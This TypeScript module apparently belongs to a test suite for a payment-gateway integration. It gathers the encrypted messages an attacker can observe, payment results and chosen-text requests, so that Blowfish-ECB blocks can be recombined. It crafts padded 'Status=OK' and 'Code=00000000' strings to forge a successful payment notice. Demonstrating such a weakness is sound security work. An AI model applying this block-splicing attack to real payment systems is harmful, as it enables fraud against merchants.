import { seal } from "../../wire"

import { genuine, merchantId, sealed, type Target } from "./genuine-notices"

/**
 * Messages encrypted with the account's key that an attacker sees while shopping: payment results in the address bar, and
 * requests to the gateway that contain text of the attacker's choice. With Blowfish in ECB mode their blocks can be recombined.
 */
export function seenMessages({ cipher }: Target): readonly string[] {
  const results = genuine.map((parameters) => dataOf(sealed(parameters, cipher)))
  const requests = wordsOfHis.map(
    (SellingPoint) =>
      seal(
        {
          MerchantID: merchantId,
          TransID: genuine[2]?.["TransID"],
          SellingPoint,
          Amount: "1",
          Currency: "CHF",
        },
        { cipher, charset: "iso-8859-1", upperCase: true },
      ).Data,
  )
  return [...results, ...requests]
}

/** A request cannot contain `&`, so chosen text becomes a parameter only where a block of another message ends with one. */
const wordsOfHis = ["Status=OK", "Code=00000000", "MAC=", "x", "xx", "xxx", "xxxx", "xxxxx", "xxxxxx"].map(
  (word) => `${word}${" ".repeat(16)}00000000OK      Status=OK`,
)

const dataOf = (body: string) => body.slice(body.indexOf("Data=") + 5)
